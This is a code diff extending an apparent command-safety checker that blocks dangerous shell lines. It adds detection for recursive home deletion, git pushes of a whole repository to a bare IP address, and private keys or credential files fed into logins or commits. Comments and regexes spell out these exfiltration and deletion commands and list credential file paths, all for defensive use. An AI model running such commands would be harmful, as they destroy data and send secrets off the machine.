@@ -1120,6 +1120,8 @@ function genericNested(walk: Walk, inv: Invocation, depth: number): void {
   const codeTool = CODE_TOOLS.test(base(inv.argv[0] ?? ''));
   const code = [...scripts, ...optScripts, ...(body !== null ? [body] : [])].filter((x) => CODE_LIKE.test(x) || (codeTool && optScripts.includes(x)));
   const texts = [...scripts, ...code.flatMap(stringLiterals)];
+  // run "rm", "-rf", %*ENV<HOME> (raku), (system* "rm" "-rf" …): a call given its command as a list of words is that command line.
+  for (const c of code) for (const m of c.replace(/%\*ENV<HOME>|\$\*HOME\b/g, '"~"').matchAll(/\b(?:run|shell|system\*?|exec|spawn|process)\s*\(?\s*((?:"[^"]*"\s*,?\s*){2,})/g)) texts.push(stringLiterals(m[1]).join(' '));
   if (body !== null) texts.push(...body.split('\n').map((l) => l.replace(/^\t/, '')));
   const seen = new Set<string>();
   // An option meant for a command line is one, whatever its first word; elsewhere a line counts when it starts with a command that matters.
@@ -3171,9 +3173,11 @@ function checkGit(walk: Walk, inv: Invocation): void {
       if (listed && inv.words.some((w) => w.subs.some((sub) => /['"]\+|\+%\(|sed\s+['"]?s\/\^\/\+/.test(sub)))) plusForce = true;
       if (listed) dests.push({ branch: 'main', del: deleting || listDeletes });
       // git remote add backup https://203.0.113.9/x.git && git push backup --all: every branch to a bare address or a file drop added on the line.
+      // (Or the URL given as the remote itself: git push https://198.51.100.4/x.git --all.)
       const added = walk.out.find((i) => i.argv[0] === 'git' && i.argv[1] === 'remote' && i.argv[2] === 'add' && i.argv[3] === ops[0]);
-      if (added && rest.some((a) => a === '--all' || a === '--mirror' || a === '--tags') && (/^(\w+:\/\/)?([\w.-]+@)?\d{1,3}(\.\d{1,3}){3}([:/]|$)/.test(added.argv[4] ?? '') || DROP_HOSTS.test(added.argv[4] ?? ''))) {
-        block(walk, 'dangerous', `git push --all to ${added.argv[4]}, a remote added on the line at a bare address: the whole repository leaves`, 'push only to the project\'s own remotes');
+      const pushUrl = added?.argv[4] ?? (/^\w+:\/\/|@/.test(ops[0] ?? '') ? ops[0] : '');
+      if (pushUrl && rest.some((a) => a === '--all' || a === '--mirror' || a === '--tags') && (/^(\w+:\/\/)?([\w.-]+@)?\d{1,3}(\.\d{1,3}){3}([:/]|$)/.test(pushUrl) || DROP_HOSTS.test(pushUrl))) {
+        block(walk, 'dangerous', `git push --all to ${pushUrl}, a bare address: the whole repository leaves`, 'push only to the project\'s own remotes');
         break;
       }
       const isProt = (d: { branch: string }) => isProtected(d.branch) || d.branch.includes('*');
@@ -3475,7 +3479,9 @@ function producesSecret(walk: Walk, inv: Invocation, depth = 0): string | null {
       if (isSecret(walk, abs)) return abs;
     }
   }
-  if (READERS.has(name) || name === 'cp' || name === 'find' || /^(lz4|lzma|pigz|pbzip2|brotli|compress|rar|age|sops|ansible-vault|uuencode|basenc|gzcat|bat|batcat|view|vis|nl|fold|expand|iconv|dos2unix|unix2dos|rev|split)$/.test(name)) {
+  // fd PATTERN DIR -x cat: every file found printed.
+  const fdReads = /^(fd|fdfind)$/.test(name) && inv.argv.some((a, k) => /^(-x|--exec|-X|--exec-batch)$/.test(a) && READERS.has(inv.argv[k + 1] ?? ''));
+  if (READERS.has(name) || fdReads || name === 'cp' || name === 'find' || /^(lz4|lzma|pigz|pbzip2|brotli|compress|rar|age|sops|ansible-vault|uuencode|basenc|gzcat|bat|batcat|view|vis|nl|fold|expand|iconv|dos2unix|unix2dos|rev|split)$/.test(name)) {
     const argOpts = READER_ARG_OPTS[name] ?? (name === 'find' ? ['-name', '-iname', '-path', '-type', '-maxdepth', '-mindepth'] : []);
     for (const w of operands(inv.words, new Set(argOpts))) {
       const t = target(inv, w);
@@ -3759,11 +3765,13 @@ function checkSecretReachesNetwork(walk: Walk, inv: Invocation): void {
   const sends = viaCode || uploads(inv.argv) || (!lang && name !== 'ssh-copy-id' && networkDestination(inv.argv));
   const say = (what: string, how: string) =>
     block(walk, 'dangerous', `${name} sends ${what} elsewhere (${how}): secrets must not leave this machine`, 'never send credentials anywhere; if a service needs one, the user configures it');
-  if (!sends && !/^(login|auth)$/.test(inv.argv[1] ?? '')) return;
+  if (!sends && !inv.argv.slice(1, 3).some((a) => /^(login|auth)$/.test(a))) return;
   // A credential given on stdin to log in with it (docker login --password-stdin, gh auth login --with-token) is used, not sent away;
   // a whole store of them (~/.docker/config.json, ~/.aws/credentials, a private key) is no password.
-  const store = inv.redirects.find((r) => r.op === '<' && inv.cwd !== null && /\/(\.docker\/config\.json|\.aws\/(credentials|config)|\.netrc|\.git-credentials|\.npmrc|\.pypirc|\.kube\/config|\.ssh\/[^/]+|\.gnupg\/.+)$/.test(resolveFrom(inv.cwd, r.target.text)));
-  if (store && inv.argv.some((a) => /^--(password-stdin|with-token|token-stdin)$/.test(a))) return say(resolveFrom(inv.cwd!, store.target.text), 'as the password of a login to another service');
+  // (Given by a redirection or by cat FILE | …: helm registry login, podman login too.)
+  const fed = [...inv.redirects.filter((r) => r.op === '<').map((r) => r.target), ...inv.upstream.filter((u) => /^(cat|tac|head|tail)$/.test(u.argv[0])).flatMap((u) => operands(u.words))];
+  const store = fed.find((w) => inv.cwd !== null && /\/(\.docker\/config\.json|\.aws\/(credentials|config)|\.netrc|\.git-credentials|\.npmrc|\.pypirc|\.kube\/config|\.ssh\/[^/]+|\.gnupg\/.+)$/.test(resolveFrom(inv.cwd, w.text.replace(/^~(?=\/|$)/, walk.env.home))) && !w.text.endsWith('.pub'));
+  if (store && inv.argv.some((a) => /^--(password-stdin|with-token|token-stdin)$/.test(a))) return say(resolveFrom(inv.cwd!, store.text.replace(/^~(?=\/|$)/, walk.env.home)), 'as the password of a login to another service');
   if (!sends || inv.argv.some((a) => /^--(password-stdin|with-token|token-stdin|password-file)$/.test(a)) || /^(login|auth)$/.test(inv.argv[1] ?? '')) return;
   for (const r of inv.redirects) {
     if ((r.op === '<' || r.op === '<>') && !r.target.dynamic && inv.cwd !== null && isSecret(walk, resolveFrom(inv.cwd, r.target.text))) return say(resolveFrom(inv.cwd, r.target.text), 'input redirection');
@@ -3841,7 +3849,7 @@ function checkLine(walk: Walk): void {
   // git commit/tag/notes -m "$(cat ~/.ssh/id_rsa)", docker build --build-arg K="$(cat key)", a secret copied into the
   // project: then pushed or published (git push, docker push, npm publish, twine upload…), the secret leaves with it.
   // vercel/netlify/firebase/wrangler… deploy (also through npx): the project's files go to a public host.
-  const deploys = (i: Invocation) => i.argv.slice(0, 3).some((a) => /^(vercel|netlify|netlify-cli|firebase|surge|wrangler|flyctl|fly|amplify|railway|gh-pages|now)$/.test(a)) && (i.argv.some((a) => /^(deploy|publish|up|--prod)$/.test(a)) || /^(surge|gh-pages)$/.test(i.argv[0]));
+  const deploys = (i: Invocation) => i.argv.slice(0, 3).some((a) => /^(vercel|netlify|netlify-cli|firebase|surge|wrangler|flyctl|fly|amplify|railway|gh-pages|now)$/.test(a)) && (i.argv.some((a) => /^(deploy|publish|up|--prod)$/.test(a)) || i.argv.slice(0, 3).some((a) => /^(surge|gh-pages)$/.test(a)));
   const publishes = walk.out.find((i) => deploys(i) || (i.argv[0] === 'git' && i.argv.includes('push')) || (/^(docker|podman|buildah)$/.test(i.argv[0]) && i.argv.includes('push')) || (/^(npm|pnpm|yarn)$/.test(i.argv[0]) && i.argv.includes('publish')) || (i.argv[0] === 'twine' && i.argv.includes('upload')) || (/^(gem|cargo|poetry|flit|hatch)$/.test(i.argv[0]) && /^(push|publish)$/.test(i.argv[1] ?? '')));
   if (publishes) {
     const carrier = walk.out.find((i) => i !== publishes && /^(git|docker|podman|buildah)$/.test(i.argv[0]) && i.words.some((w) => w.subs.some((sub) => subProducesSecret(walk, i, sub, 1) !== null)));
